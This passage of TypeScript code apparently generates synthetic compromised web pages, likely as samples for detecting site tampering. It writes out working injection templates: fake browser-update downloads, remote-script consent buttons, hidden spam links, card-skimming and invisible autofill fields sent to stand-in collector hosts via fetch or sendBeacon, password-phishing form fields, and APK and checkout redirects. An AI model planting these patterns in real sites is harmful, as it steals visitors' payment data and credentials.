const updBody: T<string> = {
  en: "This site requires the latest version of {B}. Install the update to continue.",
  fr: "Ce site nécessite la dernière version de {B}. Installez la mise à jour pour continuer.",
  de: "Diese Seite benötigt die neueste Version von {B}. Installieren Sie das Update, um fortzufahren.",
  es: "Este sitio requiere la última versión de {B}. Instala la actualización para continuar.",
  nl: "Deze site vereist de nieuwste versie van {B}. Installeer de update om verder te gaan.",
  pt: "Este site requer a versão mais recente do {B}. Instale a atualização para continuar.",
  it: "Questo sito richiede l'ultima versione di {B}. Installa l'aggiornamento per continuare."
}
const updButton: T<string> = { en: "Update now", fr: "Mettre à jour", de: "Jetzt aktualisieren", es: "Actualizar ahora", nl: "Nu bijwerken", pt: "Atualizar agora", it: "Aggiorna ora" }

/** SocGholish / FakeUpdates: a fake browser-update notice over a compromised page, its button downloading a script or archive from another host. */
const fakeBrowserUpdate = fresh32("fake browser-update notice (Chrome, Firefox, Edge) over the page whose button downloads an archive, script or installer from another host (FakeUpdates style)", (page, rng) => {
  const lang = chance(rng, 0.7) ? page.site.locale.lang : "en"
  const B = pick(rng, ["Chrome", "Firefox", "Edge", "Chrome"])
  const ver = `${between(rng, 118, 134)}.0.${between(rng, 5000, 6999)}.${between(rng, 10, 200)}`
  const file = `${B}.${pick(rng, ["Update", "Updater", "Installer"])}.${ver}.${pick(rng, ["zip", "js", "exe", "msix", "msi"])}`
  const href = `https://${evilHost(rng, page)}/${pick(rng, ["update", "download", "dl", "files", "u"])}/${file}`
  const inner = `<h2>${esc(fill(pick(rng, updTitle[lang]), { B }))}</h2><p>${esc(fill(updBody[lang], { B }))}</p><p><a href="${esc(href)}" download style="display:inline-block;padding:10px 20px;background:#1a73e8;color:#fff;text-decoration:none">${esc(updButton[lang])}</a></p>`
  const html = chance(rng, 0.6)
    ? `<div class="${pick(rng, ["upd-overlay", "browser-update", "chrome-update"])}" style="position:fixed;inset:0;z-index:999999;background:#f1f3f4;padding:10vh 10vw;font-family:Arial,sans-serif">${inner}</div>`
    : `<div class="${pick(rng, ["upd-bar", "update-notice"])}" style="background:#fff8e1;border-bottom:1px solid #e0c060;padding:12px 20px;font-family:Arial,sans-serif">${inner}</div>`
  return splices(insert(pick(rng, [top(page), top(page), bottom(page)]), html))
})

const consentText: T<ReadonlyArray<string>> = {
  en: ["We use cookies to improve your experience. By continuing you accept our cookie policy.", "This website uses cookies. Please accept to continue."],
  fr: ["Nous utilisons des cookies pour améliorer votre expérience. En continuant, vous acceptez notre politique.", "Ce site utilise des cookies. Veuillez accepter pour continuer."],
  de: ["Wir verwenden Cookies, um Ihr Erlebnis zu verbessern. Mit der Nutzung stimmen Sie zu.", "Diese Website verwendet Cookies. Bitte akzeptieren Sie, um fortzufahren."],
  es: ["Usamos cookies para mejorar tu experiencia. Al continuar aceptas nuestra política.", "Este sitio utiliza cookies. Acepta para continuar."],
  nl: ["Wij gebruiken cookies om uw ervaring te verbeteren. Door verder te gaan accepteert u ons beleid.", "Deze website gebruikt cookies. Accepteer om verder te gaan."],
  pt: ["Usamos cookies para melhorar sua experiência. Ao continuar, você aceita nossa política.", "Este site usa cookies. Aceite para continuar."],
  it: ["Utilizziamo i cookie per migliorare la tua esperienza. Continuando accetti la nostra policy.", "Questo sito utilizza i cookie. Accetta per continuare."]
}
const acceptWord: T<string> = { en: "Accept", fr: "Accepter", de: "Akzeptieren", es: "Aceptar", nl: "Accepteren", pt: "Aceitar", it: "Accetta" }

/** Fake cookie-consent bars used as skimmer and malware loaders: a consent bar whose Accept button loads a script from another host (or opens a "privacy centre" there). */
const fakeConsentBar = fresh32("fake cookie-consent bar at the bottom of the page whose Accept button loads a script from another host or opens a 'privacy centre' there", (page, rng) => {
  const lang = chance(rng, 0.75) ? page.site.locale.lang : "en"
  const host = evilHost(rng, page)
  const button = chance(rng, 0.6)
    ? `<button type="button" onclick="${esc(`var s=document.createElement('script');s.src='https://${host}${scriptPath(rng)}';document.body.appendChild(s);this.parentNode.style.display='none'`)}">${esc(acceptWord[lang])}</button>`
    : `<a class="button" href="https://${host}/${pick(rng, ["privacy", "consent", "cookie-settings", "gdpr"])}?site=${encodeURIComponent(page.site.host)}">${esc(acceptWord[lang])}</a>`
  const bar = `<div class="${pick(rng, ["cookie-bar", "cc-window", "gdpr-consent", "cookie-notice"])}" style="position:fixed;bottom:0;left:0;right:0;z-index:99998;background:#${pick(rng, ["222", "333", "fff", "f7f7f7"])};padding:14px 20px"><span>${esc(pick(rng, consentText[lang]))}</span> ${button}</div>`
  return splices(insert(pick(rng, [bottom(page), top(page)]), bar))
})

// ———————————————————————————— spam for crawlers ————————————————————————————

const spamWords: T<ReadonlyArray<string>> = {
  en: ["online casino", "best online slots", "payday loans", "cheap viagra", "buy cialis online", "replica watches", "crypto casino bonus", "essay writing service", "sports betting tips", "no deposit bonus", "buy instagram followers", "cheap ray ban sunglasses"],
  fr: ["casino en ligne", "machines à sous gratuites", "prêt rapide sans justificatif", "viagra pas cher", "paris sportifs", "bonus sans dépôt"],
  de: ["Online Casino", "Spielautomaten kostenlos", "Kredit ohne Schufa", "Viagra kaufen", "Sportwetten Tipps", "Casino ohne Lizenz"],
  es: ["casino online", "tragamonedas gratis", "préstamos rápidos", "comprar viagra", "apuestas deportivas", "bono sin depósito"],
  nl: ["online casino", "gokkasten gratis", "snel geld lenen", "viagra kopen", "sportweddenschappen", "casino zonder cruks"],
  pt: ["cassino online", "caça-níqueis grátis", "empréstimo rápido", "comprar viagra", "apostas esportivas", "bônus sem depósito"],
  it: ["casino online", "slot gratis", "prestiti veloci", "viagra senza ricetta", "scommesse sportive", "bonus senza deposito"]
}
const spamMix = (rng: Rng, page: Page, n: number): Array<string> => sample(rng, [...spamWords[page.site.locale.lang], ...(page.site.locale.lang === "en" ? [] : sample(rng, spamWords.en, 4))], n)

/** SEO link spam hidden from the owner's eye (off-screen, zero height, zero font size, screen-reader classes) but read by crawlers: casino, pharma and loan links. */
const hiddenSpamLinks = fresh32("block of casino, pharma and loan links hidden from view (off-screen, display:none, zero height or font size, screen-reader class) but present for crawlers", (page, rng) => {
  const words = spamMix(rng, page, between(rng, 3, 10))
  const anchors = words.map((w) => `<a href="https://${randomDomain(rng)}/${slug(w)}"${chance(rng, 0.3) ? ` rel="dofollow"` : ""}>${esc(w)}</a>`).join(pick(rng, [" ", " | ", ", ", "<br>"]))
  const hide = pick(rng, [
    ` style="position:absolute;left:-9999px"`, ` style="display:none"`, ` style="height:0;overflow:hidden"`, ` style="font-size:0"`,
    ` style="opacity:0;position:absolute;z-index:-1"`, ` style="position:absolute;top:-500px"`, ` class="${pick(rng, ["sr-only", "visually-hidden", "screen-reader-text"])}"`
  ])
  return splices(insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom"), slotAt(page.spots, "middle"), top(page)]), `<div${hide}>${anchors}</div>`))
})

/** The "pharma hack": search-result text rewritten in the head only (meta description, og and twitter descriptions, sometimes the title), invisible on the page itself. */
const metaTagSpam = fresh32("meta description, og/twitter descriptions (sometimes og:title and the title) rewritten with casino, pharma or loan spam that shows only in search results and share previews", (page, rng) => {
  const w = spamMix(rng, page, 3)
  const text = pick(rng, [
    () => `${w.map((s) => s.charAt(0).toUpperCase() + s.slice(1)).join(", ")} – ${pick(rng, ["no prescription needed", "instant approval", "best bonus 2025", "fast delivery", "100% legit"])}`,
    () => `${brandName(page)}: ${w.join(" · ")}`,
    () => `${w[0]!} ${pick(rng, ["at", "on", "|", "—"])} ${randomDomain(rng)}. ${w.slice(1).join(", ")}.`
  ])()
  const out: Array<Splice> = []
  let desc = false
  for (const e of page.spots.elements) {
    if (e.name !== "meta" || !usable(page, e) || e.attribs.content === undefined) continue
    const key = (e.attribs.name ?? e.attribs.property ?? "").toLowerCase()
    if (key === "description") { out.push(setAttr(page, e, "content", text)); desc = true }
    else if (key === "og:description" || key === "twitter:description") out.push(setAttr(page, e, "content", text))
    else if ((key === "og:title" || key === "twitter:title") && chance(rng, 0.5)) out.push(setAttr(page, e, "content", w[0]!.toUpperCase()))
  }
  if (!desc) out.push(insert(head(page), `<meta name="description" content="${esc(text)}"><meta name="keywords" content="${esc(w.join(", "))}">`))
  if (page.spots.title !== null && chance(rng, 0.3)) out.push(insert(page.spots.title.start, esc(`${w[0]!} | `)))
  return { splices: out }
})

// ———————————————————————————— links and where visitors go ————————————————————————————

/** Outbound-link monetisation by an intruder: the page's links to other sites rewritten through a redirector on the intruder's host (the target is kept in a parameter, so hovering still shows it). */
const outboundThroughRedirector = fresh32("many of the page's links to other sites rewritten through a redirector on another host (original address kept in a query parameter or base64 path)", (page, rng) => {
  const all = links(page)
  const ext = all.filter((a) => !isOwn(page, a.attribs.href ?? "") && resolve(page, a.attribs.href ?? "") !== null)
  const pool = ext.length > 0 ? ext : all
  const host = evilHost(rng, page)
  const form = int(rng, 3)
  const p = pick(rng, ["go", "out", "r", "redirect", "away", "link"])
  const q = pick(rng, ["u", "url", "to", "target", "dest"])
  const n = Math.min(60, Math.max(1, Math.round(pool.length * (0.3 + 0.7 * rng()))))
  return splices(...sample(rng, pool, n).map((a) => {
    const abs = resolve(page, a.attribs.href ?? "")?.href ?? (a.attribs.href ?? "")
    const url = form === 0 ? `https://${host}/${p}?${q}=${encodeURIComponent(abs)}` : form === 1 ? `https://${host}/${p}/${b64(abs).replace(/=+$/, "")}` : `https://${host}/${p}.php?${q}=${encodeURIComponent(abs)}&sid=${alnum(rng, 4)}`
    return setAttr(page, a, "href", url)
  }))
})

const shopRe = /(?:^|[^a-z])(shop|store|boutique|tienda|winkel|loja|negozio|laden|product|produit|producto|cart|panier|warenkorb|basket|checkout|order|buy|kaufen|acheter|comprar|kopen|acquista|ticket|gift)s?(?:[^a-z]|$)/i

/** A fake storefront: one to three shop or product links sent to the same path on a look-alike shop domain (stolen card data, never a delivery). */
const lookalikeStorefront = fresh32("one to three shop, product or basket links sent to the same path on a look-alike storefront domain of the site, link text unchanged", (page, rng) => {
  const all = links(page)
  const shop = all.filter((a) => shopRe.test(`${a.attribs.href ?? ""} ${textOf(page, a)}`))
  const own = all.filter((a) => isOwn(page, a.attribs.href ?? ""))
  const pool = shop.length > 0 ? shop : own.length > 0 ? own : all
  const b = bare(page)
  const host = pick(rng, [lookHost(rng, page), `${b}-${pick(rng, ["shop", "store", "outlet", "sale"])}.${pick(rng, ["com", "shop", "store", "online"])}`, `${b}.${pick(rng, ["shop", "store", "boutique"])}`, `shop-${b}.${pick(rng, ["com", "net", "co"])}`])
  return splices(...sample(rng, pool, between(rng, 1, 3)).map((a) => setAttr(page, a, "href", `https://${host}${pathOf(page, a.attribs.href ?? "/")}`)))
})

/** The visible part of the text run's enclosing link, or where an inline element can go after a price. */
const afterPriceRun = (page: Page, t: { readonly parent: number; readonly end: number; readonly start: number; readonly text: string }): number => {
  for (let e = elAt(page, t.parent); e !== undefined; e = elAt(page, e.parent)) {
    if ((e.name === "a" || e.name === "button") && e.closeTag !== null) return e.closeTag.end
  }
  return afterPrice(page, { ...t })
}
const buyWords: T<ReadonlyArray<string>> = {
  en: ["Buy now", "Pay now", "Order now", "Checkout"], fr: ["Acheter", "Payer maintenant", "Commander"], de: ["Jetzt kaufen", "Jetzt bezahlen", "Bestellen"],
  es: ["Comprar ahora", "Pagar ahora", "Pedir"], nl: ["Nu kopen", "Nu betalen", "Bestellen"], pt: ["Comprar agora", "Pagar agora", "Encomendar"], it: ["Acquista ora", "Paga ora", "Ordina"]
}

/** A checkout step sent elsewhere: a "Buy now" button placed after a price, leading to a payment page on a look-alike of Stripe, PayPal or the shop itself. */
const buyButtonToFakeCheckout = fresh32("'Buy now' or 'Pay now' button placed after a price on the page, leading to a payment page on a look-alike of Stripe, PayPal or the shop's own domain", (page, rng) => {
  const b = bare(page)
  const host = pick(rng, [() => hostTwist(rng, "checkout.stripe.com"), () => hostTwist(rng, "www.paypal.com"), () => `pay-${b}.${pick(rng, ["com", "shop", "online", "net"])}`, () => `${b}-checkout.${pick(rng, ["com", "co", "site"])}`, () => `secure-${b}-pay.com`])()
  const path = pick(rng, [`/c/pay/cs_live_${mixed(rng, 24)}`, `/checkoutnow?token=${alnum(rng, 17).toUpperCase()}`, `/pay/${alnum(rng, 10)}`, `/order/${digits(rng, 6)}`])
  const label = pick(rng, siteOr(rng, page, buyWords))
  const button = ` <a href="https://${host}${path}" class="${pick(rng, ["btn btn-primary", "button buy-now", "buy-button", "cta"])}"${chance(rng, 0.4) ? ` style="background:#${pick(rng, ["0a7", "d33", "1a73e8", "f60"])};color:#fff;padding:4px 12px"` : ""}>${esc(label)}</a>`
  const runs = page.spots.texts.filter((t) => priceRe.test(t.text))
  if (runs.length > 0) return splices(insert(afterPriceRun(page, pick(rng, runs)), button))
  return splices(insert(slotAt(page.spots, "middle"), `<p>${button.trim()}</p>`))
})

/** Hijacked featured content: a new first entry in the site's "latest posts" list, in its markup, linking to a scam article on a look-alike or foreign host. */
const scamEntryInLatest = fresh32("new entry in the site's latest-posts list, in its own markup and with a comment count, whose headline (refund, giveaway, crypto gains) links to a look-alike or foreign host", (page, rng) => {
  const titles: T<ReadonlyArray<string>> = {
    en: ["{B} customers can now claim a refund online", "Giveaway: 500 gift cards for our readers", "How our readers made {M} a week with this app", "Important: update your payment details"],
    fr: ["Les clients de {B} peuvent demander un remboursement en ligne", "Jeu concours : 500 cartes cadeaux pour nos lecteurs", "Important : mettez à jour vos coordonnées de paiement"],
    de: ["{B}-Kunden können jetzt online eine Erstattung beantragen", "Gewinnspiel: 500 Gutscheine für unsere Leser", "Wichtig: Aktualisieren Sie Ihre Zahlungsdaten"],
    es: ["Los clientes de {B} ya pueden solicitar un reembolso en línea", "Sorteo: 500 tarjetas regalo para nuestros lectores", "Importante: actualiza tus datos de pago"],
    nl: ["Klanten van {B} kunnen nu online een terugbetaling aanvragen", "Winactie: 500 cadeaubonnen voor onze lezers", "Belangrijk: werk uw betaalgegevens bij"],
    pt: ["Clientes da {B} já podem pedir reembolso online", "Sorteio: 500 vales-presente para nossos leitores", "Importante: atualize seus dados de pagamento"],
    it: ["I clienti di {B} possono ora chiedere un rimborso online", "Concorso: 500 buoni regalo per i nostri lettori", "Importante: aggiorna i tuoi dati di pagamento"]
  }
  const title = fill(pick(rng, siteOr(rng, page, titles)), { B: brandName(page), M: page.site.locale.money(between(rng, 2, 9) * 1000).replace(/[.,]00(?=\D*$)/, "") })
  const url = chance(rng, 0.6) ? `https://${lookHost(rng, page)}/${pick(rng, ["blog", "news", "posts"])}/${slug(title)}` : `https://${evilHost(rng, page)}/?p=${digits(rng, 5)}`
  const li = `<li><a href="${esc(url)}">${esc(title)}</a> <span class="comment-count">(${esc(page.site.words.comments(between(rng, 0, 60)))})</span></li>`
  const aside = page.spots.elements.find((e) => e.name === "aside" && (e.attribs.class ?? "").includes("latest-posts") && usable(page, e))
  const ul = aside === undefined ? undefined : page.spots.elements.find((e) => e.name === "ul" && e.parent === aside.index)
  if (ul !== undefined) return splices(insert(chance(rng, 0.7) || ul.closeTag === null ? ul.openEnd : ul.closeTag.start, li))
  return splices(insert(slotAt(page.spots, "middle"), `<ul>${li}</ul>`))
})

/** One picture made into a link to the intruder's offer (the image is the site's own, only the click goes elsewhere). */
const pictureBecomesLink = fresh32("one of the site's own pictures wrapped in (or its enclosing link sent to) a link to an offer on another host, the picture itself unchanged", (page, rng) => {
  const url = `https://${evilHost(rng, page)}/${pick(rng, ["promo", "offer", "win", "bonus", "gift", "deal"])}/${alnum(rng, 6)}`
  const target = chance(rng, 0.5) ? ` target="_blank"` : ""
  const all = imgs(page)
  const free = all.filter((e) => !inside(page, e, "a") && elAt(page, e.parent)?.name !== "picture" && !inside(page, e, "button"))
  if (free.length > 0) {
    const e = pick(rng, free)
    return splices(insert(e.start, `<a href="${esc(url)}"${target}>`), insert(e.openEnd, "</a>"))
  }
  for (const e of all) {
    for (let p = elAt(page, e.parent); p !== undefined; p = elAt(page, p.parent)) if (p.name === "a" && usable(page, p)) return splices(setAttr(page, p, "href", url))
  }
  return splices(insert(slotAt(page.spots, "top"), `<p><a href="${esc(url)}"${target}><img src="https://${evilHost(rng, page)}/b/${between(rng, 300, 970)}x${between(rng, 90, 250)}.gif" alt=""></a></p>`))
})

/** Logo and favicon hot-linked from a look-alike of the site's media host: the page looks the same, the intruder sees every visit and can swap the picture. */
const logoAndIconFromLookalikeCdn = fresh32("site's logo picture and favicon loaded from the same file names on a look-alike of its media or CDN host, the page looking identical", (page, rng) => {
  const b = bare(page)
  const host = pick(rng, [`cdn-${b}.${pick(rng, ["com", "net", "io"])}`, `${b}-static.${pick(rng, ["com", "net"])}`, `media.${brandLookalike(rng, page.site.brand)}`, `static.${brandLookalike(rng, page.site.brand)}`, `img-${b}.${pick(rng, ["com", "cc", "xyz"])}`])
  const out: Array<Splice> = []
  const all = imgs(page)
  const logos = all.filter((e) => /logo|brand|masthead|header/i.test(`${e.attribs.src ?? ""} ${e.attribs.alt ?? ""} ${e.attribs.class ?? ""} ${e.attribs.id ?? ""}`))
  const pic = logos.length > 0 ? logos[0]! : all[0]
  if (pic !== undefined) out.push(setAttr(page, pic, "src", `https://${host}${pathOf(page, pic.attribs.src ?? "/logo.png").split("?")[0]}`))
  const icons = page.spots.elements.filter((e) => e.name === "link" && usable(page, e) && !e.inBody && rels(e).some((r) => /icon/.test(r)) && (e.attribs.href ?? "") !== "")
  if (icons.length > 0) out.push(...icons.map((e) => setAttr(page, e, "href", `https://${host}${pathOf(page, e.attribs.href ?? "/favicon.ico").split("?")[0]}`)))
  else if (out.length === 0 || chance(rng, 0.5)) out.push(insert(head(page), `<link rel="${pick(rng, ["icon", "shortcut icon"])}" href="https://${host}/favicon.ico">`))
  return { splices: out }
})

const fontFamilies = ["Roboto", "Open+Sans", "Lato", "Montserrat", "Inter", "Source+Sans+3", "Poppins", "Noto+Sans", "Merriweather"]

/** Fake Google Fonts hosts used by skimmers and loaders (look-alikes of fonts.googleapis.com): the site's font stylesheet moved there, or one added with a preconnect. */
const fontsFromLookalike = fresh32("web-font stylesheet loaded from a look-alike of fonts.googleapis.com (the site's Google Fonts link moved there, or a new font link with a preconnect)", (page, rng) => {
  const host = pick(rng, [() => hostTwist(rng, "fonts.googleapis.com"), () => `fonts-googleapis.${pick(rng, ["com", "net", "org", "cc"])}`, () => `fonts.googleapis.${pick(rng, ["net", "org", "co", "info"])}`])()
  const gf = page.spots.elements.filter((e) => e.name === "link" && usable(page, e) && /fonts\.googleapis\.com/i.test(e.attribs.href ?? ""))
  if (gf.length > 0) return splices(...gf.map((e) => setAttr(page, e, "href", (e.attribs.href ?? "").replace(/fonts\.googleapis\.com/i, host))))
  const fam = pick(rng, fontFamilies)
  const tag = `${chance(rng, 0.6) ? `<link rel="preconnect" href="https://${host}">` : ""}<link rel="stylesheet" href="https://${host}/css2?family=${fam}:wght@400;700&amp;display=swap">`
  return splices(insert(pick(rng, [head(page), headStart(page)]), tag))
})

/** A content embed repointed: one of the page's iframes (video, map, widget) loaded from another host, or a video-like embed from another host added to the content. */
const embedRepointed = fresh32("one of the page's embedded frames (video, map, widget) loaded from a look-alike or foreign host with the same path, or a video-sized embed from another host added to the content", (page, rng) => {
  const frames = page.spots.elements.filter((e) => e.name === "iframe" && usable(page, e) && e.inBody && /^\s*(https?:)?\/\//i.test(e.attribs.src ?? ""))
  if (frames.length > 0) {
    const e = pick(rng, frames)
    const u = resolve(page, e.attribs.src ?? "")
    const host = u !== null && chance(rng, 0.6) ? hostTwist(rng, u.hostname) : evilHost(rng, page)
    return splices(setAttr(page, e, "src", `https://${host}${u === null ? "/embed" : u.pathname + u.search}`))
  }
  const html = `<p><iframe src="https://${evilHost(rng, page)}/embed/${mixed(rng, 11)}" width="${pick(rng, [560, 640, 480])}" height="${pick(rng, [315, 360, 270])}" frameborder="0" allowfullscreen></iframe></p>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "top")]), html))
})

const appWords: T<string> = { en: "Get our app", fr: "Téléchargez notre application", de: "Holen Sie sich unsere App", es: "Descarga nuestra app", nl: "Download onze app", pt: "Baixe nosso aplicativo", it: "Scarica la nostra app" }

/** Android banking-trojan distribution through hacked sites: the app-store link replaced by a direct APK download from another host, or a "get our app" line with one. */
const appLinkToApk = fresh32("app-store link replaced by a direct APK download from another host, or a 'get our app' line (sometimes with the Google Play badge) linking to such a file", (page, rng) => {
  const host = evilHost(rng, page)
  const apk = `https://${host}/${pick(rng, ["app", "download", "apk", "m"])}/${bare(page)}${pick(rng, ["", "-app", "_android", "-release"])}${chance(rng, 0.4) ? `-${between(rng, 1, 5)}.${between(rng, 0, 9)}` : ""}.apk`
  const stores = page.spots.elements.filter((e) => e.name === "a" && usable(page, e) && /play\.google\.com|apps\.apple\.com|itunes\.apple\.com/i.test(e.attribs.href ?? ""))
  if (stores.length > 0) return splices(...stores.map((e) => setAttr(page, e, "href", /apple/i.test(e.attribs.href ?? "") ? `https://${host}/ios/install?id=${digits(rng, 9)}` : apk)))
  const lang = chance(rng, 0.75) ? page.site.locale.lang : "en"
  const inner = chance(rng, 0.5)
    ? `<a href="${esc(apk)}"><img src="https://play.google.com/intl/en_us/badges/static/images/badges/en_badge_web_generic.png" alt="Get it on Google Play" height="${pick(rng, [40, 48, 60])}"></a>`
    : `${esc(appWords[lang])}: <a href="${esc(apk)}">${esc(brandName(page))} ${pick(rng, ["Android", "App", "(APK)"])}</a>`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "bottom"), slotAt(page.spots, "middle")]), `<p class="${pick(rng, ["app-download", "app-badges", "mobile-app"])}">${inner}</p>`))
})

// ———————————————————————————— forms and the data visitors type ————————————————————————————

const cardLabels: T<readonly [string, string, string]> = {
  en: ["Verify your card (no charge)", "Card number", "Expiry"], fr: ["Vérifiez votre carte (aucun débit)", "Numéro de carte", "Expiration"],
  de: ["Karte bestätigen (keine Belastung)", "Kartennummer", "Gültig bis"], es: ["Verifica tu tarjeta (sin cargo)", "Número de tarjeta", "Caducidad"],
  nl: ["Bevestig uw kaart (geen kosten)", "Kaartnummer", "Vervaldatum"], pt: ["Verifique seu cartão (sem cobrança)", "Número do cartão", "Validade"],
  it: ["Verifica la tua carta (nessun addebito)", "Numero della carta", "Scadenza"]
}

/** A fake payment step inside a real form (Magecart "double-entry" forms): card number, expiry and CVC fields added to one of the site's forms, its submissions often sent elsewhere. */
const cardFieldsInForm = fresh32("card number, expiry and CVC fields added inside one of the site's existing forms as a 'verification' step, the form often sent to another host", (page, rng) => {
  const lang = chance(rng, 0.8) ? page.site.locale.lang : "en"
  const [legend, num, exp] = cardLabels[lang]
  const fields = `<fieldset class="${pick(rng, ["payment", "card-details", "billing", "verify"])}"><legend>${esc(legend)}</legend><label>${esc(num)} <input type="text" name="${pick(rng, ["cc_number", "cardnumber", "card[number]", "payment[cc_number]"])}" inputmode="numeric" autocomplete="cc-number" placeholder="1234 5678 9012 3456"></label> <label>${esc(exp)} <input type="text" name="${pick(rng, ["cc_exp", "exp", "card[exp]"])}" autocomplete="cc-exp" placeholder="MM/YY"></label> <label>CVC <input type="text" name="${pick(rng, ["cvc", "cvv", "cc_cid"])}" autocomplete="cc-csc" maxlength="4"></label></fieldset>`
  const f = mainForm(rng, page)
  if (f === undefined) return splices(insert(slotAt(page.spots, "middle"), `<form action="${esc(collector(rng, page))}" method="post">${fields}<button type="submit">OK</button></form>`))
  const out = [insert(fieldSpot(page, f), fields)]
  if (chance(rng, 0.6)) out.push(setAttr(page, f, "action", collector(rng, page)))
  return { splices: out }
})

const autofillSets: ReadonlyArray<readonly [string, string]> = [
  ["name", "name"], ["phone", "tel"], ["address", "street-address"], ["zip", "postal-code"], ["city", "address-level2"],
  ["ccnum", "cc-number"], ["ccexp", "cc-exp"], ["cvc", "cc-csc"], ["bday", "bday"], ["org", "organization"]
]

/** Autofill phishing: invisible text fields with autocomplete hints (name, phone, address, card) in a visible form, so the browser fills them silently; the form's data copied to another host. */
const invisibleAutofillFields = fresh32("invisible text fields with autocomplete hints (name, phone, address, card number) added to one of the site's forms so browsers fill them silently, the submission copied to another host", (page, rng) => {
  const chosen = sample(rng, autofillSets, between(rng, 3, 6))
  const hide = pick(rng, ["position:absolute;left:-9999px;width:1px;height:1px", "height:0;overflow:hidden", "opacity:0;position:absolute;pointer-events:none", "transform:scale(0);position:absolute"])
  const fields = `<div style="${hide}" aria-hidden="true">${chosen.map(([n, ac]) => `<input type="text" name="${n}" autocomplete="${ac}" tabindex="-1">`).join("")}</div>`
  const url = collector(rng, page)
  const beacon = pick(rng, [`navigator.sendBeacon('${url}',new FormData(this))`, `fetch('${url}',{method:'POST',mode:'no-cors',body:new FormData(this)})`])
  const f = mainForm(rng, page)
  if (f === undefined) return splices(insert(slotAt(page.spots, "bottom"), `<form action="/subscribe" method="post" onsubmit="${esc(beacon)}">${fields}<input type="email" name="email"><button type="submit">OK</button></form>`))
  const old = (f.attribs.onsubmit ?? "").trim()
  return splices(insert(f.closeTag !== null && chance(rng, 0.5) ? f.closeTag.start : f.openEnd, fields), chance(rng, 0.6) ? setAttr(page, f, "onsubmit", old === "" ? beacon : `${beacon};${old}`) : setAttr(page, f, "action", url))
})

const pwLabels: T<ReadonlyArray<string>> = {
  en: ["Your e-mail password (to confirm)", "Password of your e-mail account", "Confirm with your mailbox password"],
  fr: ["Mot de passe de votre messagerie (confirmation)", "Mot de passe de votre adresse e-mail"],
  de: ["Ihr E-Mail-Passwort (zur Bestätigung)", "Passwort Ihres E-Mail-Kontos"],
  es: ["Contraseña de tu correo (para confirmar)", "Contraseña de tu cuenta de correo"],
  nl: ["Wachtwoord van uw e-mail (ter bevestiging)", "Wachtwoord van uw e-mailaccount"],
  pt: ["Senha do seu e-mail (para confirmar)", "Senha da sua conta de e-mail"],
  it: ["Password della tua e-mail (per conferma)", "Password del tuo account e-mail"]
}

/** Credential phishing inside the site's own newsletter or contact form: a "confirm with your e-mail password" field, the form posted to another host. */
const mailboxPasswordField = fresh32("'confirm with your e-mail password' field added to the site's newsletter or contact form, the form now posting to another host", (page, rng) => {
  const label = pick(rng, siteOr(rng, page, pwLabels))
  const field = `<label>${esc(label)} <input type="password" name="${pick(rng, ["password", "pass", "pwd", "email_password"])}" autocomplete="current-password"${chance(rng, 0.5) ? " required" : ""}></label> `
  const url = `https://${evilHost(rng, page)}/${pick(rng, ["login.php", "verify.php", "mail/auth", "owa/auth.php", "webmail/confirm"])}`
  const f = mainForm(rng, page)
  if (f === undefined) return splices(insert(slotAt(page.spots, "bottom"), `<form action="${esc(url)}" method="post"><input type="email" name="email">${field}<button type="submit">OK</button></form>`))
  return splices(insert(fieldSpot(page, f), field), setAttr(page, f, "action", url), setAttr(page, f, "method", "post"))
})

const providerForms: ReadonlyArray<(rng: Rng, page: Page) => { readonly host: string; readonly path: string }> = [
  (rng, page) => ({ host: `${bare(page)}.us${between(rng, 1, 21)}.list-manage.com`, path: `/subscribe/post?u=${hex(rng, 25)}&id=${hex(rng, 10)}` }),
  (rng) => ({ host: "sibforms.com", path: `/serve/${mixed(rng, 40)}` }),
  (rng) => ({ host: "app.convertkit.com", path: `/forms/${digits(rng, 7)}/subscriptions` }),
  (rng) => ({ host: "manage.kmail-lists.com", path: `/subscriptions/subscribe?a=${mixed(rng, 6)}&g=${mixed(rng, 6)}` }),
  (rng, page) => ({ host: `${bare(page)}.createsend.com`, path: `/t/d/s/${alnum(rng, 6)}/` })
]

/** Newsletter sign-ups stolen by a look-alike of the mailing-list provider (list-manage, sibforms, convertkit, kmail-lists, createsend): the form's action moved to the look-alike. */
const newsletterToLookalikeProvider = fresh32("newsletter or sign-up form's action moved to a look-alike of a mailing-list provider's host (Mailchimp list-manage, Brevo sibforms, ConvertKit, Klaviyo, Campaign Monitor)", (page, rng) => {
  const p = pick(rng, providerForms)(rng, page)
  const url = `https://${hostTwist(rng, p.host)}${p.path}`
  const f = mainForm(rng, page)
  if (f === undefined) return splices(insert(slotAt(page.spots, "bottom"), `<form action="${esc(url)}" method="post"><input type="email" name="EMAIL"><button type="submit">OK</button></form>`))
  const out = [setAttr(page, f, "action", url)]
  if (chance(rng, 0.4)) out.push(setAttr(page, f, "method", "post"))
  return { splices: out }
})

// ———————————————————————————— identifiers ————————————————————————————

/** Call diversion in one place only: the national phone number in the contact text changed to another of the same format (tel: link and international line left as they were). */
const nationalNumberOnly = fresh32("national phone number in the contact text alone changed to another number of the same format (often only the last digits), the tel: link and the number for callers from abroad left as they were", (page, rng) => {
  const p = page.ids.phone
  const np = swapPhone(page.site.locale, p, rng)
  const intlAt = textOcc(page, p.intl)
  const occ = textOcc(page, p.national).filter((r) => !intlAt.some((t) => r.start >= t.start && r.end <= t.end))
  if (occ.length > 0) return splices(replace(pick(rng, occ), esc(np.national)))
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.phone)}: ${esc(np.national)}`, slotAt(page.spots, "bottom")))
})

/** Mail diversion to the same name on another domain: the contact e-mail (text and mailto) moved to the organisation's name on another TLD or a "-mail" variant the intruder registered. */
const emailToSiblingDomain = fresh32("contact e-mail (shown address and mailto link) moved to the same mailbox name on a sibling domain the organisation does not own (other TLD, '-mail', 'mail-' or '-support' variant)", (page, rng) => {
  const email = page.ids.email
  const [local] = email.split("@") as [string]
  const label = page.site.domain.split(".")[0] ?? "site"
  const rest = page.site.domain.slice(label.length)
  const dom = pick(rng, [
    () => `${label}${pick(rng, [".co", ".net", ".org", ".info", ".email", ".online", ".eu"].filter((t) => t !== rest))}`,
    () => `${label}-mail${rest}`,
    () => `${label}mail.com`,
    () => `mail-${label}.com`,
    () => `${label}-${pick(rng, ["support", "team", "office", "service"])}.com`
  ])()
  const next = `${local}@${dom}`
  const out = replaceEverywhere(page, [[email, next]])
